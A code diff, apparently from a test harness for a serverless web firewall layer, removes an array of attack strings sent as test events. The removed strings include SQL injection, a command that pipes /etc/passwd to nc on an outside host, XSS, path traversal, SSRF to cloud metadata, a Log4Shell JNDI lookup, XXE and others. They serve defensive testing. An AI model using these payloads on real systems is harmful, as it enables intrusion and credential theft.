@@ -69,23 +69,6 @@ export const FIRST_EVENTS = [
   },
 ];
 
-/** Attacks of each class, so that the parts that judge them are loaded too. */
-export const ATTACK_EVENTS = [
-  "x' or 1=1 union select login from users--",
-  'a; cat /etc/passwd | nc 203.0.113.1 99',
-  '<img src=x onerror=alert(1)><script>fetch(1)</script>',
-  '../../../../etc/passwd',
-  "require('child_process').exec('id')",
-  'http://169.254.169.254/latest/meta-data/',
-  '{{7*7}}${{7*7}}<%= 7*7 %>',
-  '${jndi:ldap://203.0.113.1/a}',
-  '*)(uid=*))(|(uid=*',
-  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
-  'a\r\nSet-Cookie: b=c',
-  'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
-  '{"name":{"$ne":null},"__proto__":{"a":1}}',
-].map((value) => ({ ...FIRST_EVENTS[0], queryStringParameters: { value }, body: value }));
-
 /** Loads a built file as a function does, and sends it events: the runtime, the layer's preload, or the firewall alone. */
 export async function exercise(file, events) {
   Object.assign(process.env, ENVIRONMENT);
